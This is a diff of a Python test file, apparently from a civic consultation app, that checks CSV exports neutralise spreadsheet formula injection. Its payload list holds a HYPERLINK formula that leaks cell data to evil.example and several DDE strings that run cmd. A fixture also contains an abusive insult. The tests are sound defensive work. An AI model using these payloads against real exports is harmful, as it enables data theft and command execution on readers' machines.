@@ -1,6 +1,7 @@
 """CSV exports cannot attack their reader: a cell a spreadsheet would run as a formula is
 neutralised, in the audit log's CSV and in every table of a report (participants write views,
 names, appeal statements and notes)."""
+
 import csv
 import io
 
@@ -13,7 +14,7 @@ from agora.services.reporting import reports
 from tests.conftest import civic_statements, csrf_from, login
 
 PAYLOADS = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -38,9 +39,15 @@ def test_a_cell_that_could_start_a_formula_is_read_as_text(payload):
 
 def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own():
     buffer = io.StringIO()
-    csvfiles.writer(buffer, lineterminator="\n").writerow(["view", "harmless\r=HYPERLINK(\"http://evil.example\")", "a\r\nb"])
+    csvfiles.writer(buffer, lineterminator="\n").writerow(
+        ["view", 'harmless\r=HYPERLINK("http://evil.example")', "a\r\nb"]
+    )
     assert "\r" not in buffer.getvalue()
-    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["view", "harmless\n=HYPERLINK(\"http://evil.example\")", "a\nb"]
+    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
+        "view",
+        'harmless\n=HYPERLINK("http://evil.example")',
+        "a\nb",
+    ]
 
 
 def test_ordinary_cells_and_numbers_are_unchanged():
@@ -57,10 +64,18 @@ def test_the_audit_csv_neutralises_what_participants_and_moderators_wrote(app, c
     author = make.user(email="author@example.org", name="=cmd|' /C calc'!A0")
     sid = make.submission(cid, author, "You are all worthless idiots and stupid bitches, shut up")
     login(client, "mod@example.org")
-    client.post(f"/moderation/items/{sid}/decide", data={"action": "hide", "reason": "abuse", "note": PAYLOADS[1], "csrf_token": csrf_from(client, "/")})
+    client.post(
+        f"/moderation/items/{sid}/decide",
+        data={"action": "hide", "reason": "abuse", "note": PAYLOADS[1], "csrf_token": csrf_from(client, "/")},
+    )
     client.post("/account/logout", data={"csrf_token": csrf_from(client, "/")})
     login(client, "author@example.org")
-    assert client.post(f"/account/views/{sid}/appeal", data={"statement": PAYLOADS[0], "csrf_token": csrf_from(client, "/")}).status_code == 302
+    assert (
+        client.post(
+            f"/account/views/{sid}/appeal", data={"statement": PAYLOADS[0], "csrf_token": csrf_from(client, "/")}
+        ).status_code
+        == 302
+    )
     with app.app_context():
         assert db.session.query(Appeal).count() == 1
     client.post("/account/logout", data={"csrf_token": csrf_from(client, "/")})
@@ -68,10 +83,14 @@ def test_the_audit_csv_neutralises_what_participants_and_moderators_wrote(app, c
     login(client, "admin@example.org")
     rows = list(csv.DictReader(io.StringIO(client.get("/admin/audit.csv").get_data(as_text=True))))
     cells = [value for row in rows for value in row.values()]
-    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells and "'@moderator" in cells  # the statement, the note, a name
+    assert (
+        "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells and "'@moderator" in cells
+    )  # the statement, the note, a name
     assert not [cell for cell in cells if _dangerous(cell)]
 
-    exported = app.test_cli_runner().invoke(args=["agora", "moderation", "export-audit", str(app.instance_path) + "/audit-test.csv"])
+    exported = app.test_cli_runner().invoke(
+        args=["agora", "moderation", "export-audit", str(app.instance_path) + "/audit-test.csv"]
+    )
     assert exported.exit_code == 0, exported.output
     with open(str(app.instance_path) + "/audit-test.csv", encoding="utf-8", newline="") as handle:
         assert not [cell for row in csv.reader(handle) for cell in row if _dangerous(cell)]
@@ -90,7 +109,10 @@ def test_every_report_table_neutralises_its_cells(app, make):
 
     def poison(value):  # every text a participant or the data could put in a cell
         if isinstance(value, dict):
-            return {k: (next(payloads) if k in ("text", "label", "key") and isinstance(v, str) else poison(v)) for k, v in value.items()}
+            return {
+                k: (next(payloads) if k in ("text", "label", "key") and isinstance(v, str) else poison(v))
+                for k, v in value.items()
+            }
         if isinstance(value, list):
             return [poison(v) for v in value]
         return value
@@ -102,7 +124,14 @@ def test_every_report_table_neutralises_its_cells(app, make):
     statement = {"submission_id": 1, "text": PAYLOADS[2]}
     for kind in ("consensus", "divisive", "consensus_across_constituencies", "consensus_across_regions"):
         content["opinions"][kind] = [statement]
-    content["opinions"]["groups"] = [{"id": 0, "size": 1, "constituency": [{"key": PAYLOADS[3], "label": PAYLOADS[3], "count": 1, "share": 1.0}], "representative": [statement]}]
+    content["opinions"]["groups"] = [
+        {
+            "id": 0,
+            "size": 1,
+            "constituency": [{"key": PAYLOADS[3], "label": PAYLOADS[3], "count": 1, "share": 1.0}],
+            "representative": [statement],
+        }
+    ]
     tables = reports.csv_tables(content)
     assert "statements.csv" in tables and "themes.csv" in tables
     seen = 0
@@ -118,7 +147,7 @@ def test_the_polis_export_neutralises_its_cells_and_reads_them_back_as_written(a
     from agora.services.participation import imports
 
     cid = make.consultation("Water for all")
-    text = "=HYPERLINK(\"http://evil.example\") is what I would like to see on every water bill."
+    text = '=HYPERLINK("http://evil.example") is what I would like to see on every water bill.'
     make.submission(cid, make.user(), text)
     with app.app_context():
         imports.export_polis(cid, tmp_path)
